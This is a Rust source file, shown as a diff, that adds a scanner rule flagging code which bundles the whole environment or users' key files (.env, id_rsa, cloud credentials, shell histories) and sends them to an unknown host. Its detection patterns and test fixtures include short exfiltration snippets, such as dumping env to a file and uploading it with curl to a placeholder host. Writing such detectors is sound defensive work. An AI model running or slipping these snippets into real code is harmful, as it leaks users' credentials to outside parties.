@@ -1,0 +1,272 @@
+//! Reports bundles for support, crash reports and telemetry that contain the user's whole environment or the files with
+//! the user's keys, and that a program sends.
+//!
+//! Honest programs read single variables and their own `.env` file, and tell a child process the environment. What
+//! counts is that the whole environment, or the text of several such files, is part of an object that is sent.
+
+use std::collections::BTreeSet;
+use std::sync::LazyLock;
+
+use regex::Regex;
+use skillc_core::Span;
+use skillc_core::source::lines::char_floor;
+
+use super::sending::has_any;
+use super::{MOST_EXAMINED, Of};
+use crate::security::ascii_words;
+use crate::security::context::line_around;
+use crate::security::hosts::{HostKind, kind};
+use crate::security::signals::{Match, Signal};
+
+/// How far before a statement that reads a file the list of file names is, in bytes.
+const LISTED: usize = 600;
+
+/// An object that is given the whole environment, with the name of the object. All expressions match text in lower case.
+static ENVIRONMENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"(?:\b([a-z_$][\w$]*)\s*(?::\s*[\w<>, \[\]]{1,30})?=\s*(?:dict\()?\{[^;]{0,300}?|\b([a-z_$][\w$]*)(?:\.\w+|\[[^\]\n]{1,30}\])\s*=\s*)(?:[\x22']?\w+[\x22']?\s*(?::|=>)\s*|\.\.\.|\*\*)?(?:dict\(\s*)?(?:process\.env|os\.environ(?:\.copy\(\))?|env\.to_h)\b\s*(?:[,)}\n;]|$)",
+    ))
+    .expect("a pattern")
+});
+
+/// A serialized object that has the whole environment.
+static SERIALIZED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"(?:stringify|dumps|to_json)\s*\(\s*\{[^;]{0,200}?[\x22']?\w+[\x22']?\s*:\s*(?:dict\(\s*)?(?:process\.env|os\.environ)\b\s*[,)}\n]",
+    ))
+    .expect("a pattern")
+});
+
+/// A statement that puts the text of a file into an object, with the name of the object.
+static PUT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"\b([a-z_$][\w$]*)(?:\.\w+){0,3}(?:\[[^\]\n]{1,60}\]\s*=|\.(?:push|append|add|set|update|write|file|writestr)\()[^\n]{0,120}?(?:readfile\w*|open\(|read_text|read_bytes|file_get_contents|file\.read|os\.readfile|\bp\b|\bpath\b|\bf\b|\bfile\b)",
+    ))
+    .expect("a pattern")
+});
+
+/// The name of a file with keys or with the history of commands, in quotes.
+static SECRET_FILE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"[\x22'`][^\x22'`\n]{0,40}?(\.env(?:\.\w+)?|service_?-?account\w*\.json|credentials(?:\.json)?|\.npmrc|\.netrc|\.pypirc|id_rsa|id_ed25519|\.(?:bash|zsh|python|psql|node_repl)_history|kube/config|\.git-credentials|secrets\.(?:ya?ml|json|toml)|\.aws/\w+|firebase\w*\.json|auth\.json)[\x22'`]",
+    ))
+    .expect("a pattern")
+});
+
+/// A statement that sends or serializes something.
+static SENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"(?:stringify|dumps|to_json|b64encode|buffer\.from|urlencode|\bbody|\bjson|\bdata|\bfiles|\bpayload|\.send|\.write|\.end|\.post|\.put|\.request|fetch|urlopen|marshal)\w*\s*[=:(][^\n]{0,200}",
+    ))
+    .expect("a pattern")
+});
+
+/// The host of a request, given without a scheme.
+static HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"\b(?:host|hostname)[\x22']?\s*[:=]\s*[\x22'`]([a-z0-9.-]{4,100}\.[a-z]{2,24})[\x22'`]|\bhttps?connection\(\s*[\x22']([a-z0-9.-]{4,100}\.[a-z]{2,24})[\x22']|net::http\.new\(\s*[\x22']([a-z0-9.-]{4,100}\.[a-z]{2,24})[\x22']",
+    ))
+    .expect("a pattern")
+});
+
+/// The environment of a shell that is written to a file, with the name of the file.
+static SHELL_DUMP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&ascii_words(
+        r"(?:^|[\n;{(&|])\s*(?:env|printenv|export -p|declare -x|set)(?:\s*\|\s*sort)?\s*(?:;?\s*[})]|;[^\n]{0,120}[})])?\s*>{1,2}\s*[\x22']?([\w./${}-]{2,80})",
+    ))
+    .expect("a pattern")
+});
+
+/// Signs of a request, in lower case.
+const REQUESTS: [&str; 16] = [
+    "fetch(",
+    ".request(",
+    ".post(",
+    ".put(",
+    "urlopen",
+    "requests.",
+    "httpx",
+    "axios",
+    "sendbeacon",
+    "net::http",
+    "http.client",
+    "curl ",
+    "curl_exec",
+    "wget ",
+    "got(",
+    "http.new",
+];
+
+impl Of<'_, '_> {
+    /// SEC103: reports bundles with the environment or with the user's keys that are sent.
+    pub(super) fn collecting(&mut self) {
+        let layer = self.layer;
+        let signs = ["env", "credentials", "id_rsa", "_history"];
+        if layer.is_sample || !layer.layer.is_file() || !has_any(layer.lower(), &signs) {
+            return;
+        }
+        for part in self.programs() {
+            let code = layer.lower_part(part);
+            if !has_any(code, &REQUESTS) {
+                continue;
+            }
+            let Some((start, end, what)) = bundle(code) else {
+                continue;
+            };
+            let Some(target) = self.receiver(part, code) else {
+                continue;
+            };
+            let hit = Match {
+                signal: Signal::EnvironmentDump,
+                span: Span::new(part.start + start, part.start + end),
+            };
+            let is_error = !self.is_exhibit(hit.span);
+            let what = format!("collects {what} and sends this to '{target}'");
+            self.push_order("SEC103", &hit, is_error, &what);
+        }
+    }
+
+    /// Returns the unknown host to which a program sends data.
+    fn receiver(&self, part: Span, code: &str) -> Option<String> {
+        let addresses = self.layer.addresses(part).iter();
+        let strange = addresses.filter(|address| self.is_strange(address));
+        if let Some(address) = strange.max_by_key(|address| address.kind) {
+            return Some(address.host.clone());
+        }
+        let hosts = HOST.captures_iter(code).take(MOST_EXAMINED);
+        let mut hosts = hosts.filter_map(|found| found.iter().skip(1).flatten().next());
+        let host = hosts.find(|host| kind(host.as_str(), "") >= HostKind::Other)?;
+        Some(host.as_str().to_owned())
+    }
+}
+
+/// Finds a bundle that a program sends; returns its range and a description. `code`: in lower case.
+fn bundle(code: &str) -> Option<(usize, usize, &'static str)> {
+    const WHOLE: &str = "the whole environment";
+    if let Some(found) = SERIALIZED.find(code) {
+        return Some((found.start(), found.end(), WHOLE));
+    }
+    let objects = ENVIRONMENT.captures_iter(code).take(MOST_EXAMINED);
+    let mut objects = objects.filter_map(|found| found.get(1).or_else(|| found.get(2)));
+    if let Some(object) = objects.find(|object| is_sent(code, object.as_str())) {
+        return Some((object.start(), object.end(), WHOLE));
+    }
+    let mut dumps = SHELL_DUMP
+        .captures_iter(code)
+        .take(MOST_EXAMINED)
+        .filter_map(|found| found.get(1));
+    if let Some(dump) = dumps.find(|dump| is_uploaded(code, dump.as_str())) {
+        return Some((dump.start(), dump.end(), WHOLE));
+    }
+    let found = PUT
+        .captures_iter(code)
+        .take(4 * MOST_EXAMINED)
+        .find_map(|put| {
+            let object = put.get(1)?;
+            let start = char_floor(code, object.start().saturating_sub(LISTED));
+            let end = line_around(code, object.start()).end;
+            let names = SECRET_FILE
+                .captures_iter(&code[start..end])
+                .filter_map(|name| name.get(1));
+            let names: BTreeSet<&str> = names.map(|name| name.as_str()).collect();
+            (names.len() > 1 && is_sent(code, object.as_str())).then_some(object)
+        })?;
+    Some((found.start(), found.end(), "files with the user's keys"))
+}
+
+/// Returns whether a program serializes or sends an object, or another object that contains it.
+fn is_sent(code: &str, object: &str) -> bool {
+    let is_letter = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$');
+    let has = |text: &str| {
+        text.match_indices(object).any(|(at, _)| {
+            let before = text[..at].trim_end_matches("...");
+            let is_member = before.len() == at && before.ends_with('.');
+            !before.ends_with(is_letter)
+                && !is_member
+                && !text[at + object.len()..].starts_with(is_letter)
+        })
+    };
+    // A child process that gets the environment sends nothing.
+    let is_started = |text: &str| has_any(text, &["spawn", "exec", "env:", "env=", "subprocess"]);
+    let mut sent = SENT.find_iter(code).take(400);
+    sent.any(|found| {
+        let line = &code[line_around(code, found.start())];
+        has(found.as_str()) && !is_started(line)
+    })
+}
+
+/// Returns whether a command uploads a file.
+fn is_uploaded(code: &str, file: &str) -> bool {
+    let lines = code
+        .lines()
+        .filter(|line| line.contains("curl ") || line.contains("wget "));
+    let mut lines = lines.take(200);
+    lines.any(|line| {
+        let sends = [
+            "-d",
+            "--data",
+            "-f",
+            "--form",
+            "-t",
+            "--upload",
+            "--post-file",
+            "@",
+            "<",
+        ];
+        line.contains(file) && has_any(line, &sends)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_bundle_that_is_sent_is_told_from_settings() {
+        for (code, expected) in [
+            (
+                "const extra = { e: process.env, u: 1 };\nr.end(json.stringify({ ...info, ...extra }));",
+                true,
+            ),
+            ("send(json.stringify({ v: 1, e: process.env }))", true),
+            (
+                "report = {\"env\": dict(os.environ), \"v\": 1}\nrequests.post(u, json=report)",
+                true,
+            ),
+            (
+                "report[\"env\"] = os.environ.copy()\nrequests.post(u, json=report)",
+                true,
+            ),
+            (
+                "{ uname -a; env; } > /tmp/d.txt\ncurl --data-binary @/tmp/d.txt https://a.io",
+                true,
+            ),
+            ("env > $out\ncurl -f f=@$out https://a.io", true),
+            (
+                "for (const n of ['.env', '.env.local']) { x.f[n] = fs.readfilesync(n); }\nfetch(u, { body: json.stringify(x) })",
+                true,
+            ),
+            (
+                "for n in [\".env\", \"id_rsa\"]:\n    out.append(open(n).read())\nrequests.post(u, json=out)",
+                true,
+            ),
+            ("const o = { env: process.env };\nspawn('x', o);", false),
+            (
+                "spawn('x', [], { cwd, env: process.env });\nfetch(u, { body: json.stringify(y) })",
+                false,
+            ),
+            (
+                "const { token } = process.env;\nfetch(u, { body: json.stringify({ token }) })",
+                false,
+            ),
+            (
+                "for n in ['.env', '.env.local']:\n    load_dotenv(n)\nrequests.post(u, json=data)",
+                false,
+            ),
+            ("x.f['.env'] = open('.env').read()\nprint(x)", false),
+            ("env > $out\ncurl https://a.io -o $other", false),
+        ] {
+            assert_eq!(bundle(code).is_some(), expected, "{code}");
+        }
+    }
+}
